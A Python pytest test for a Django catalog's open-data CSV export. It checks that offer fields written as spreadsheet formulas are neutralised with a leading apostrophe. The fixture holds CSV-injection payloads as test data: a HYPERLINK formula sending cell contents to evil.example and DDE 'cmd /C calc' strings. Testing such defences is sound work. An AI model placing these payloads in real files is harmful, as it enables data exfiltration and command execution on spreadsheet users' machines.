"""The catalog's open-data CSV keeps offer texts as text: a title or summary
typed as a formula is never run by a spreadsheet; numbers are written as they are."""

import csv
import io

import pytest

from preau.catalog.testing import published_offer

pytestmark = pytest.mark.django_db


def test_open_data_csv_neutralises_formulas(client, net):
    published_offer(
        title='=HYPERLINK("https://evil.example/?"&A1,"Offre")',
        summary="+1+cmd|' /C calc'!A0",
        prerequisites="-1+cmd|' /C calc'!A0",
        teaching_methods="@SUM(1+1)",
        evaluation_methods="\t=1+1",
        access_delay="\r=1+1",
        keywords=["=1+1", "ok"],
    )
    response = client.get("/catalogue/catalogue.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Offre")'
    assert row["summary"] == "'+1+cmd|' /C calc'!A0"
    assert row["prerequisites"] == "'-1+cmd|' /C calc'!A0"
    assert row["teaching_methods"] == "'@SUM(1+1)"
    assert row["evaluation_methods"] == "'\t=1+1"
    assert row["access_delay"] == "'\r=1+1"
    assert row["keywords"] == "'=1+1 | ok"
    assert row["id"].isdigit() and row["duration_hours"] == "3.0"  # numbers as they are
